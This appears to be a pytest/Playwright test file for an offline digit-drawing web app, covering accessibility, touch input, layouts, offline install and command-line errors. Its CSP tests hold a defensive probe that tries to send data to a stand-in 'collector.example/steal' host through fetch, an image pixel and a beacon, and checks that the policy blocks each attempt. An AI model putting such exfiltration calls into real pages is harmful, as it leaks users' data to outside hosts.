"""What a person sees and hears (issue 15): screen readers, undo/redo, touch, phone layouts, bar
percentages, the model card page, the Content-Security-Policy, offline/install, and clear errors
from the command-line tools.

Browser tests share page loads: one desktop page (module scope) for announcements, bars, keys and
install; one phone page for layout and touch; one Pages-like offline visit for the CSP, the
"Works offline" badge and the model card.
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import test_pages
from conftest import ROOT, SITE, guarded_page
from playwright.sync_api import expect
from test_pages import draw_and_predict, wait_controlled, wait_started

import serve
from build_model import card_html
from digit_strokes import digit_paths, place

# test_pages' fixtures: its Pages-like server of the assembled site, and a fresh guarded page.
pages = test_pages.pages
app_page = test_pages.app_page

# Every text change of a live region, recorded from the first byte of the page on: what a screen
# reader would be asked to say. (#error, an alert, is for failures: issue 15 item 6.)
RECORD_ANNOUNCEMENTS = """
window.__announcements = [];
const LIVE = '[aria-live]:not([aria-live="off"]), [role=status], [role=alert], [role=log], ' +
  'output:not([aria-live="off"])';
new MutationObserver((records) => {
  const seen = new Set();
  for (const record of records) {
    const node = record.target.nodeType === 1 ? record.target : record.target.parentElement;
    const region = node && node.closest(LIVE);
    if (!region || seen.has(region)) continue;
    seen.add(region);
    const text = region.textContent.trim();
    if (text) window.__announcements.push({ region: region.id || region.tagName, text });
  }
}).observe(document, { subtree: true, childList: true, characterData: true });
"""
COUNTED = "() => window.__announcements.filter((a) => a.region !== 'error')"
SETTLE_MS = 700  # site/announce.js


def strokes(page) -> int:
    return page.evaluate("() => window.mnistDraw.drawing.strokes.length")


def draw(page, digit: int, size: float = 0.6) -> None:
    """Draw a hand-style digit with real mouse events; wait for its prediction."""
    box = page.locator("[data-testid=canvas]").bounding_box()
    side = box["width"]
    for stroke in place(digit_paths(digit, "hand"), side, size, (side / 2, side / 2)):
        page.mouse.move(box["x"] + stroke[0][0], box["y"] + stroke[0][1])
        page.mouse.down()
        for x, y in stroke[1:]:
            page.mouse.move(box["x"] + x, box["y"] + y)
        page.mouse.up()
    page.wait_for_function("() => window.mnistDraw.settled()")


def inside(box: dict, width: float, height: float) -> bool:
    return (
        box["x"] >= 0
        and box["y"] >= 0
        and box["x"] + box["width"] <= width + 0.5
        and box["y"] + box["height"] <= height + 0.5
    )


# --- desktop: announcements, bars, undo/redo, keys, install ---------------------------------------


@pytest.fixture(scope="module")
def desk(browser, site_url):
    with guarded_page(browser, "ux-desktop", viewport={"width": 1000, "height": 800}) as (
        context,
        page,
        _,
    ):
        context.add_init_script(RECORD_ANNOUNCEMENTS)
        page.goto(site_url)
        page.wait_for_function("() => document.body.dataset.state === 'ready'")
        yield page


@pytest.mark.browser
def test_one_settled_announcement_per_drawing_and_none_at_load(desk):
    desk.wait_for_timeout(2 * SETTLE_MS)  # anything scheduled at load would have been said
    assert desk.evaluate(COUNTED) == []
    draw(desk, 8)  # one stroke, ~150 pointer moves, as many live predictions
    desk.wait_for_function(f"() => ({COUNTED})().length > 0")
    desk.wait_for_timeout(2 * SETTLE_MS)  # and nothing more comes
    said = desk.evaluate(COUNTED)
    print(f"announcements for one drawn 8: {said}")
    assert len(said) == 1, said
    assert said[0]["region"] == "announce"
    assert said[0]["text"].startswith("8")
    desk.keyboard.press("Escape")


@pytest.mark.browser
def test_bars_are_a_list_with_visible_percentages(desk):
    desk.keyboard.press("Escape")
    draw(desk, 7)
    snapshot = desk.locator("[data-testid=probabilities]").aria_snapshot()
    items = re.findall(r"listitem: \"?(\d) ?: (\d+)%", snapshot)
    assert [d for d, _ in items] == [str(d) for d in range(10)], snapshot
    bars = desk.locator("[data-testid=probabilities] [data-digit]")
    for i in range(10):
        p = float(bars.nth(i).get_attribute("data-p"))
        shown = bars.nth(i).locator("b")
        expect(shown).to_be_visible()
        assert shown.inner_text() == f"{round(p * 100)}%"
        assert items[i][1] == str(round(p * 100))
    assert dict(items)["7"] == str(round(float(bars.nth(7).get_attribute("data-p")) * 100))
    canvas = desk.locator("[data-testid=canvas]")
    expect(canvas).to_have_accessible_description(re.compile("keyboard.*Control\\+Z", re.S))
    expect(desk.locator("kbd").first).to_be_visible()  # a desktop: keyboard hints shown


@pytest.mark.browser
def test_clear_is_undoable_and_redo_works(desk):
    desk.keyboard.press("Escape")
    draw(desk, 4)  # two strokes
    assert strokes(desk) == 2
    shown = desk.locator("[data-testid=prediction]").inner_text()
    desk.locator("[data-testid=clear]").click()
    assert strokes(desk) == 0
    desk.keyboard.press("Control+z")  # undo the Clear
    assert strokes(desk) == 2
    desk.wait_for_function("() => window.mnistDraw.settled()")
    assert desk.locator("[data-testid=prediction]").inner_text() == shown
    desk.keyboard.press("Control+Shift+Z")  # redo the Clear
    assert strokes(desk) == 0
    desk.keyboard.press("Control+z")
    desk.keyboard.press("Control+z")  # and the second stroke
    assert strokes(desk) == 1
    desk.keyboard.press("Control+y")
    assert strokes(desk) == 2
    desk.locator("[data-testid=undo]").click()
    desk.locator("[data-testid=redo]").click()
    assert strokes(desk) == 2
    draw(desk, 1)  # a new stroke ends the redo history
    desk.keyboard.press("Control+y")
    assert strokes(desk) == 3


@pytest.mark.browser
def test_escape_and_undo_keys_step_aside_in_controls(desk):
    desk.keyboard.press("Escape")
    draw(desk, 1)
    desk.evaluate(
        """() => {
          const field = Object.assign(document.createElement('input'), {id: 'probe-field'});
          const dialog = Object.assign(document.createElement('dialog'), {id: 'probe-dialog'});
          dialog.append(Object.assign(document.createElement('button'), {textContent: 'OK'}));
          document.body.append(field, dialog);
        }"""
    )
    field = desk.locator("#probe-field")
    field.fill("abc")
    field.press("Escape")
    field.press("Control+z")  # the field's own undo
    assert strokes(desk) == 1
    desk.evaluate("() => document.getElementById('probe-dialog').showModal()")
    desk.keyboard.press("Escape")  # closes the dialog ...
    expect(desk.locator("#probe-dialog")).to_be_hidden()
    assert strokes(desk) == 1  # ... and only that
    desk.evaluate("() => { document.getElementById('probe-field').remove(); }")
    desk.evaluate("() => { document.getElementById('probe-dialog').remove(); }")
    desk.locator("body").press("Escape")
    assert strokes(desk) == 0


@pytest.mark.browser
def test_install_is_offered_only_when_the_browser_offers_it(desk):
    button = desk.locator("[data-testid=install]")
    expect(button).to_be_hidden()  # headless Chromium never offers installation by itself
    prevented = desk.evaluate(
        """() => {
          const offer = new Event('beforeinstallprompt', {cancelable: true});
          offer.prompt = async () => { window.__prompted = true; return {outcome: 'accepted'}; };
          dispatchEvent(offer);
          return offer.defaultPrevented;
        }"""
    )
    assert prevented  # no mini-infobar: the button is the offer
    button.click()
    assert desk.evaluate("() => window.__prompted") is True
    expect(button).to_be_hidden()


# --- phone: layout and touch ----------------------------------------------------------------------

PHONE = {
    "viewport": {"width": 390, "height": 844},
    "device_scale_factor": 3,
    "is_mobile": True,
    "has_touch": True,
}


@pytest.fixture(scope="module")
def phone(browser, site_url):
    with guarded_page(browser, "ux-phone", **PHONE) as (context, page, _):
        page.goto(site_url)
        page.wait_for_function("() => document.body.dataset.state === 'ready'")
        yield context, page


def layout(page) -> dict:
    return page.evaluate(
        """() => ({
          scrollWidth: document.documentElement.scrollWidth,
          width: innerWidth,
          height: innerHeight,
          scrollY: scrollY,
          scale: visualViewport.scale,
        })"""
    )


@pytest.mark.browser
def test_phone_portrait_and_landscape_fit_without_scrolling(phone):
    _, page = phone
    for width, height in [(390, 844), (844, 390)]:
        page.set_viewport_size({"width": width, "height": height})
        page.evaluate("() => scrollTo(0, 0)")
        page.wait_for_function(
            "([w, h]) => innerWidth === w && innerHeight === h", arg=[width, height]
        )
        found = layout(page)
        assert found["scrollWidth"] <= width, found  # nothing sticks out sideways
        for testid in ["canvas", "undo", "redo", "clear", "prediction"]:
            box = page.locator(f"[data-testid={testid}]").bounding_box()
            assert inside(box, width, height), (width, height, testid, box)
        nine = page.locator("[data-testid=probabilities] [data-digit='9']")
        assert inside(nine.bounding_box(), width, height), (width, height, nine.bounding_box())
        assert inside(nine.locator("b").bounding_box(), width, height)
        # No keyboard on this device: no keyboard hints.
        for i in range(page.locator("kbd").count()):
            expect(page.locator("kbd").nth(i)).to_be_hidden()
    page.set_viewport_size(PHONE["viewport"])


def touch(cdp, kind: str, points: list[tuple[float, float]]) -> None:
    cdp.send(
        "Input.dispatchTouchEvent",
        {
            "type": kind,
            "touchPoints": [{"x": x, "y": y, "id": i + 1} for i, (x, y) in enumerate(points)],
        },
    )


@pytest.mark.browser
def test_pinch_on_the_canvas_draws_nothing_and_moves_nothing(phone):
    context, page = phone
    page.set_viewport_size(PHONE["viewport"])
    page.keyboard.press("Escape")
    cdp = context.new_cdp_session(page)
    box = page.locator("[data-testid=canvas]").bounding_box()
    cx, cy = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    # One finger starts a line, a second lands, both spread apart (pinch-zoom), both lift.
    touch(cdp, "touchStart", [(cx - 20, cy)])
    for step in range(1, 6):
        touch(cdp, "touchMove", [(cx - 20 - 4 * step, cy + 2 * step)])
    touch(cdp, "touchStart", [(cx - 40, cy + 10), (cx + 20, cy)])
    for step in range(1, 11):
        touch(
            cdp, "touchMove", [(cx - 40 - 6 * step, cy + 10 + 6 * step), (cx + 20 + 6 * step, cy)]
        )
    touch(cdp, "touchEnd", [(cx + 80, cy)])
    touch(cdp, "touchEnd", [])
    page.wait_for_function("() => window.mnistDraw.settled()")
    assert strokes(page) == 0  # the stroke the first finger began was cancelled
    assert page.locator("[data-testid=prediction]").inner_text() == ""
    found = layout(page)
    assert found["scrollY"] == 0 and found["scale"] == 1, found

    # A single finger still draws; a touch while the mouse draws is ignored (a resting palm).
    touch(cdp, "touchStart", [(cx, cy - 60)])
    for step in range(1, 13):
        touch(cdp, "touchMove", [(cx, cy - 60 + 10 * step)])
    touch(cdp, "touchEnd", [])
    assert strokes(page) == 1
    page.mouse.move(cx - 60, cy - 60)
    page.mouse.down()
    page.mouse.move(cx - 30, cy - 30)
    touch(cdp, "touchStart", [(cx + 60, cy + 60)])
    touch(cdp, "touchEnd", [])
    page.mouse.move(cx, cy)
    page.mouse.up()
    assert strokes(page) == 2
    page.wait_for_function("() => window.mnistDraw.settled()")
    cdp.detach()


# --- CSP, offline badge and the model card: a Pages-like visit, then offline ---------------------

PROBE_OTHER_ORIGINS = """async () => {
  const seen = [];
  const record = (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`);
  document.addEventListener('securitypolicyviolation', record);
  const fetched = await fetch('https://collector.example/steal?digit=7').then(
    () => 'sent', () => 'failed');
  const image = await new Promise((resolve) => {
    const img = new Image();
    img.onload = () => resolve('loaded');
    img.onerror = () => resolve('failed');
    img.src = 'https://collector.example/pixel.png?digit=7';
  });
  const beacon = navigator.sendBeacon('https://collector.example/beacon', 'digit=7');
  await new Promise((resolve) => setTimeout(resolve, 300));  // violation events are async
  document.removeEventListener('securitypolicyviolation', record);
  return { fetched, image, beacon, seen: seen.sort() };
}"""
BLOCKED = [
    "connect-src https://collector.example/beacon",
    "connect-src https://collector.example/steal?digit=7",
    "img-src https://collector.example/pixel.png?digit=7",
]


def assert_other_origins_blocked(page) -> None:
    result = page.evaluate(PROBE_OTHER_ORIGINS)
    assert result["fetched"] == "failed" and result["image"] == "failed", result
    assert result["seen"] == BLOCKED, result


@pytest.mark.browser
def test_csp_blocks_other_origins_online_and_offline_and_the_app_works(pages, app_page):
    """The <meta> CSP alone (Pages sends no headers); the model card page offline too."""
    context, page, guard = app_page
    guard.expect_error("Content Security Policy")  # Chromium logs each blocked request
    # Playwright reports the image request, which the browser then blocks before sending it.
    guard.expect_error(r"non-loopback address: https://collector\.example/pixel\.png")
    failed = []
    page.on("requestfailed", lambda r: failed.append((r.url, r.failure)))
    page.goto(pages.url)
    wait_started(page)
    assert_other_origins_blocked(page)
    assert draw_and_predict(page, 3) == "3"
    wait_controlled(page)
    expect(page.locator("[data-testid=offline-ready]")).to_be_visible()

    context.set_offline(True)
    page.reload()
    wait_started(page)
    expect(page.locator("[data-testid=offline-ready]")).to_be_visible()
    assert_other_origins_blocked(page)
    assert draw_and_predict(page, 5) == "5"

    external = {(url, why) for url, why in failed if "collector.example" in url}
    assert external == {
        ("https://collector.example/pixel.png?digit=7", "csp")
    }  # blocked, never sent

    page.get_by_role("link", name="Model card").click()
    expect(page.locator("h1")).to_contain_text("Model card")
    images = page.locator("main img")
    assert images.count() == 2
    for i in range(2):
        images.nth(i).scroll_into_view_if_needed()  # they load lazily, when a reader gets there
        expect(images.nth(i)).to_have_js_property("complete", True)
        assert images.nth(i).evaluate("(img) => img.naturalWidth") > 100
    assert page.locator("main table").count() >= 4
    context.set_offline(False)


WORKER_PAGE = """<!doctype html><html><head><meta charset="utf-8">{csp}
<script type="module" src="./vendor/pyscript/core.js"></script></head>
<body><script type="py" worker src="./csp-worker.py" config="./csp-worker.toml"></script></body>
</html>"""
WORKER_PY = """import numpy as np
print(f"worker ok {int(np.arange(4).sum())}")
"""
WORKER_TOML = """interpreter = "./vendor/pyodide/pyodide-shim.mjs"
packages = ["numpy"]
packages_cache = "passthrough"
"""


@pytest.mark.browser
def test_a_pyscript_worker_runs_under_the_csp(browser, site_server, tmp_path):
    """The start-up is moving into a PyScript worker: the policy must let it start (blob:)."""
    csp = re.search(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", INDEX, re.S)[0]
    files = {
        "csp-worker.html": WORKER_PAGE.format(csp=csp),
        "csp-worker.py": WORKER_PY,
        "csp-worker.toml": WORKER_TOML,
    }
    for name, text in files.items():
        (tmp_path / name).write_text(text)
        site_server.overrides[f"/{name}"] = tmp_path / name
    try:
        with guarded_page(browser, "ux-csp-worker") as (_, page, guard):
            guard.expect_error("SharedArrayBuffer|404")  # PyScript's notice; no favicon
            page.add_init_script(
                "window.__violations = [];"
                "addEventListener('securitypolicyviolation', (e) => "
                "window.__violations.push(e.effectiveDirective + ' ' + e.blockedURI));"
            )
            workers = []
            page.on("worker", lambda worker: workers.append(worker.url))
            with page.expect_console_message(lambda m: "worker ok 6" in m.text):
                page.goto(site_server.url + "csp-worker.html")
            assert page.evaluate("() => window.__violations") == []
            assert any(url.startswith("blob:") for url in workers), workers
    finally:
        for name in files:
            site_server.overrides.pop(f"/{name}", None)


# --- the policy as served, and serve.py's bounded log --------------------------------------------

INDEX = (SITE / "index.html").read_text()


def test_serve_py_sends_the_pages_csp_and_privacy_headers(site_server):
    import http.client

    meta = serve.meta_csp(SITE / "index.html")
    assert "connect-src 'self'" in meta and "default-src 'self'" in meta
    host, port = site_server.server_address[:2]
    for path in ["/", "/app.js", "/no-such-file"]:
        conn = http.client.HTTPConnection(host, port, timeout=10)
        conn.request("GET", path)
        response = conn.getresponse()
        response.read()
        conn.close()
        assert response.getheader("Content-Security-Policy") == f"{meta}; frame-ancestors 'none'"
        assert response.getheader("X-Content-Type-Options") == "nosniff"
        assert response.getheader("Referrer-Policy") == "no-referrer"


def test_sent_log_is_bounded_but_keeps_recent_slices():
    log = serve.SentLog(maxlen=3)
    for i in range(5):
        log.append((f"/{i}", i))
    assert len(log) == 5  # every response is counted ...
    assert log[2:] == [("/2", 2), ("/3", 3), ("/4", 4)]  # ... the recent ones are kept
    assert log[4:] == [("/4", 4)] and log[5:] == []
    with pytest.raises(IndexError):
        log[1:]  # dropped: a caller asking for them learns so instead of getting a wrong sum


# --- the model card page --------------------------------------------------------------------------


def test_model_card_html_is_rendered_from_the_shipped_markdown():
    folder = SITE / "model"
    md = (folder / card_html.CARD_MD).read_text()
    page = (folder / card_html.CARD_HTML).read_text()
    assert page == card_html.card_page(md), (
        "site/model/MODEL_CARD.html is stale: run `python -m build_model.card_html site/model`"
    )
    assert page.count("<h2>") == md.count("\n## ")
    assert page.count("<table>") == len(re.findall(r"\n\|[-|:]+\|\n", md))
    assert re.findall(r'<img src="([^"]+)"', page) == re.findall(r"!\[[^\]]*\]\(([^)]+)\)", md)
    assert 'href="./model/MODEL_CARD.html"' in INDEX


# --- command-line tools: one line and an exit code for expected failures -------------------------


def run(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, *args], cwd=cwd, capture_output=True, text=True, timeout=300
    )


def assert_one_line_error(done: subprocess.CompletedProcess, pattern: str) -> None:
    assert done.returncode != 0, done
    assert "Traceback" not in done.stderr, done.stderr
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert re.search(pattern, lines[-1]), done.stderr
    assert len([line for line in lines if re.search(pattern, line)]) == 1, done.stderr


def test_build_model_reports_a_truncated_mnist_file_in_one_line(tmp_path):
    from build_model import data

    source = data.ensure_files()
    for name in data.SHA256:
        (tmp_path / name).symlink_to(source / name)
    images = "train-images-idx3-ubyte"
    (tmp_path / images).unlink()
    (tmp_path / images).write_bytes((source / images).read_bytes()[:100_000])
    done = run(
        "-m", "build_model", "--quick", "--out", str(tmp_path / "out"), "--data", str(tmp_path)
    )
    assert_one_line_error(done, rf"^build_model: error: .*{images}.*truncated")
    assert done.returncode == 1


def test_assemble_and_serve_report_bad_arguments_in_one_line(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    assert_one_line_error(
        run("assemble.py", "--out", str(blocker / "dist")), r"^assemble.py: error"
    )
    assert_one_line_error(run("serve.py", "--no-vendor", "--port", "99999"), r"not a port number")
    done = run("serve.py", "--no-vendor", "--root", str(tmp_path / "missing"))
    assert_one_line_error(done, r"--root .* is not a folder")
    assert done.returncode == 2


def test_vendor_and_card_report_file_system_errors_in_one_line(monkeypatch, capsys, tmp_path):
    import vendor

    def disk_full(**_):
        raise OSError(28, "No space left on device", str(SITE / "vendor" / "x.whl"))

    monkeypatch.setattr(vendor, "ensure_vendored", disk_full)
    assert vendor.main([]) == 1
    err = capsys.readouterr().err.strip()
    assert err == f"vendor.py: error: No space left on device: {SITE / 'vendor' / 'x.whl'}"
    assert card_html.main([str(tmp_path)]) == 1
    err = capsys.readouterr().err.strip()
    assert err.startswith("card_html: error: No such file or directory") and "\n" not in err
